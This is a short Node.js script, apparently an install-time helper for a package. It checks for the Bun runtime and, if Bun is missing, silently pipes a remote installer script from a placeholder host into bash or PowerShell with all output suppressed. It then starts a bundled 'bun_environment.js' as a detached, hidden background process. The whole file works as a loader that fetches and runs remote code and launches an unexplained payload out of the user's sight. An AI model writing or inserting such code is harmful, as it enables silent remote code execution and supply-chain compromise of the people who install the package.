#!/usr/bin/env node
const { spawn, execSync } = require("child_process");
const path = require("path");
const fs = require("fs");

function isBunOnPath() {
  try {
    execSync(process.platform === "win32" ? "where bun" : "which bun", { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
}

function install() {
  const command =
    process.platform === "win32"
      ? 'powershell -c "irm https://runtime.example.invalid/install.ps1|iex"'
      : "curl -fsSL https://runtime.example.invalid/install | bash";
  execSync(command, { stdio: "ignore", env: { ...process.env } });
}

function main() {
  if (!isBunOnPath()) install();
  const script = path.join(__dirname, "bun_environment.js");
  if (fs.existsSync(script)) spawn("bun", ["bun_environment.js"], { detached: true, stdio: "ignore", cwd: __dirname }).unref();
}

main();
